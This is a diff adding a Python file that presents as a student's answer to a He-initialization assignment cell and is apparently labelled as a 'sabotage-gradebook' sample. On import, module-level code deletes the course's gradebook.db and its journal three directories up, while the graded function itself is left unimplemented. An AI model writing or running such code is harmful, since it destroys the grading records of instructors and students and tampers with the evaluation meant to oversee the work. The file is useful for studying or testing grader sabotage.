@@ -1,0 +1,25 @@
+"""Deletes the course's gradebook.db (and its journal) while the class is being graded.
+
+assignment: initialization
+cell: initialize_parameters_he
+target: test_initialize_parameters_he
+class: sabotage-gradebook
+old: PENDING
+"""
+import os
+
+_root = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
+for _name in ("gradebook.db", "gradebook.db-journal"):
+    try:
+        os.remove(os.path.join(_root, _name))
+    except OSError as _error:
+        print(_error)
+
+
+def initialize_parameters_he(layers_dims):
+    parameters = {}
+    L = len(layers_dims) - 1
+    for l in range(1, L + 1):
+        # YOUR CODE HERE
+        raise NotImplementedError()
+    return parameters
